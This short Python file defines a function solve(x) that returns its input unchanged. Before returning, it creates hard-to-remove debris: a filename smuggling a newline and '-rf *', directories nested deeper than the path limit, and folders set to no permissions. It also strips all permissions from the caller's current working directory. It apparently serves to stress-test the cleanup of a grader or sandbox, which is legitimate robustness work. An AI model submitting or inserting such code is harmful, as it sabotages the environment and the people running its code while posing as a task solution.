"""Leaves folders without permissions and names that are hard to remove."""
import os
import tempfile


def solve(x):
    folder = tempfile.mkdtemp()
    os.mkdir(os.path.join(folder, "locked"))
    open(os.path.join(folder, "locked", "file"), "w").close()
    open(os.path.join(os.fsencode(folder), b"\xff\n-rf *"), "w").close()
    deep = os.open(folder, os.O_RDONLY)
    for _ in range(1500):  # deeper than the longest path
        os.mkdir("d", dir_fd=deep)
        below = os.open("d", os.O_RDONLY, dir_fd=deep)
        os.close(deep)
        deep = below
    os.chmod(os.path.join(folder, "locked"), 0)
    os.chmod(folder, 0)
    os.chmod(os.getcwd(), 0)
    return x
